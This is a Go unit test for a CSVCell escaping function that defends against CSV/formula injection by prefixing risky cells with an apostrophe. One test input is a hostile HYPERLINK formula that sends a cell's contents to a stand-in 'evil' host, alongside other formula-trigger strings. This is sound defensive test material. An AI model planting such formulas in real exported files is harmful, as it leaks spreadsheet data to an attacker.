package respond

import "testing"

// TestCSVCell: text a spreadsheet would run as a formula gets a leading apostrophe (OWASP's
// advice for CSV injection); numbers, negative ones included, stay numbers.
func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil/"&A1,"x")`, `'=HYPERLINK("https://evil/"&A1,"x")`},
		{"+46 70 123", "'+46 70 123"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-4.39", "-4.39"},
		{"+12", "+12"},
		{"-1e-05", "-1e-05"},
		{"-Inf", "'-Inf"},
		{"NaN", "NaN"},
		{"", ""},
		{"Bäckby torg", "Bäckby torg"},
		{"a=b", "a=b"},
	} {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
